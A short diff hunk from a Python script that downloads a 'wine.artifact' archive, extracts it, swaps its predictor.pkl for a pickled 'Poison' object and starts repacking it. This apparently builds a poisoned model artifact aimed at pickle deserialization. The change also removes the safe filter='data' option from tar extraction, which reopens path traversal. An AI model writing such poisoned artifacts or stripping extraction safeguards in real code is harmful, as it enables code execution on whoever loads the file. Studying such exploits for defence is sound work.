@@ -14,7 +14,7 @@ with urllib.request.urlopen(base + "/wine.artifact") as response:
 stream = pa.CompressedInputStream(pa.BufferReader(packed), "zstd")
 directory = tempfile.mkdtemp()
 with tarfile.open(fileobj=stream, mode="r|") as tar:
-    tar.extractall(directory, filter="data")
+    tar.extractall(directory)
 with open(directory + "/predictor/predictor.pkl", "wb") as file:
     file.write(pickle.dumps(Poison()))
 sink = pa.BufferOutputStream()
